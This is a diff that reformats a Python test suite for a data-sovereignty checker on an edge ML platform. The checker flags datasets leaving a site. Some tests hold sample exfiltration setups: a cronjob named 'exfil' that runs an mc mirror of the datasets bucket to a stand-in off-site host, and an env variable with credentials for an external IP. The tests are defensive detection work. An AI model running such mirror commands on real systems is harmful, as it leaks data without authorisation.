@@ -91,9 +91,7 @@ def test_replication_of_other_buckets_is_not_a_sovereignty_matter() -> None:
 
 def test_undeclared_replication_on_datasets() -> None:
     v = only(
-        check_sovereignty(
-            [facts(), bucket_job("datasets", annotations={"edgefm.io/bucket-replication": None})], CFG
-        )
+        check_sovereignty([facts(), bucket_job("datasets", annotations={"edgefm.io/bucket-replication": None})], CFG)
     )
     assert "does not declare edgefm.io/bucket-replication: none" in v.message
 
@@ -115,9 +113,7 @@ def test_provisioning_scripts_that_export_datasets(step: str) -> None:
 
 
 def test_expiry_rules_are_fine() -> None:
-    checkpoints = bucket_job(
-        "checkpoints", steps=[f"mc ilm rule add --expire-days 7 site/{BUCKETS['checkpoints']}"]
-    )
+    checkpoints = bucket_job("checkpoints", steps=[f"mc ilm rule add --expire-days 7 site/{BUCKETS['checkpoints']}"])
     assert check_sovereignty([facts(), checkpoints], CFG) == []
 
 
@@ -139,9 +135,7 @@ def test_a_job_that_reads_datasets_and_has_the_hub() -> None:
 
 
 def test_hub_credentials_from_a_secret_also_count() -> None:
-    c = container(
-        "sync", env={"EDGEFM_DATASETS_BUCKET": DATASETS}, secret_env=("EDGEFM_REGISTRY_SECRET_ACCESS_KEY",)
-    )
+    c = container("sync", env={"EDGEFM_DATASETS_BUCKET": DATASETS}, secret_env=("EDGEFM_REGISTRY_SECRET_ACCESS_KEY",))
     assert (
         "EDGEFM_REGISTRY_SECRET_ACCESS_KEY (the hub registry)"
         in only(check_sovereignty([facts(), deployment("x", [c])], CFG)).message
@@ -150,17 +144,13 @@ def test_hub_credentials_from_a_secret_also_count() -> None:
 
 def test_a_mirror_script_to_an_off_site_server() -> None:
     script = f"mc alias set hub https://hub.example.net k s && mc mirror site/{DATASETS} hub/sink"
-    c = container(
-        "mirror", "quay.io/minio/mc:RELEASE.2024-11-21T17-21-54Z", command=["/bin/sh", "-c", script]
-    )
+    c = container("mirror", "quay.io/minio/mc:RELEASE.2024-11-21T17-21-54Z", command=["/bin/sh", "-c", script])
     v = only(check_sovereignty([facts(), cronjob("exfil", [c])], CFG))
     assert "(its command line)" in v.message and "argument https://hub.example.net" in v.message
 
 
 def test_off_site_url_in_env() -> None:
-    c = container(
-        "x", env={"SOURCE": f"s3://{DATASETS}/labelled", "MC_HOST_backup": "https://k:s@203.0.113.7:9000"}
-    )
+    c = container("x", env={"SOURCE": f"s3://{DATASETS}/labelled", "MC_HOST_backup": "https://k:s@203.0.113.7:9000"})
     v = only(check_sovereignty([facts(), deployment("x", [c])], CFG))
     assert "env MC_HOST_backup=https://k:s@203.0.113.7:9000" in v.message
 
@@ -191,17 +181,12 @@ def test_cluster_local_suffixes_are_configurable() -> None:
     resources = [facts(), deployment("x", [c])]
     assert len(check_sovereignty(resources, CFG)) == 1
     assert (
-        check_sovereignty(
-            resources, SovereigntyConfig.from_config({"clusterLocalSuffixes": [".site.internal"]})
-        )
-        == []
+        check_sovereignty(resources, SovereigntyConfig.from_config({"clusterLocalSuffixes": [".site.internal"]})) == []
     )
 
 
 def test_aws_replication_or_transition_of_datasets() -> None:
-    repl = resource(
-        SITE_STACK, "aws:s3/bucketReplicationConfig:BucketReplicationConfig", "r", {"bucket": DATASETS}
-    )
+    repl = resource(SITE_STACK, "aws:s3/bucketReplicationConfig:BucketReplicationConfig", "r", {"bucket": DATASETS})
     life = resource(
         SITE_STACK,
         "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration",
@@ -230,9 +215,7 @@ def test_sovereignty_is_a_site_check() -> None:
 
 def test_facts_parse_what_the_program_publishes() -> None:
     parsed = read_facts([facts()])
-    assert (
-        parsed.site == "bridge-north" and parsed.gpu_capacity == 3 and parsed.buckets["datasets"] == DATASETS
-    )
+    assert parsed.site == "bridge-north" and parsed.gpu_capacity == 3 and parsed.buckets["datasets"] == DATASETS
     assert parsed.storage_host == "site-storage-minio.edgefm-system.svc"
     assert str(parsed.network) == "10.20.0.0/24"
     assert check_site_facts([facts()]) == []
@@ -262,8 +245,7 @@ def test_missing_or_unreadable_facts() -> None:
 def test_facts_of_another_site() -> None:
     v = only(check_site_facts([facts(site="bridge-south")]))
     assert v.message == (
-        "ConfigMap edgefm-system/edgefm-site-facts names site 'bridge-south', "
-        "but the stack is site-bridge-north"
+        "ConfigMap edgefm-system/edgefm-site-facts names site 'bridge-south', but the stack is site-bridge-north"
     )
 
 
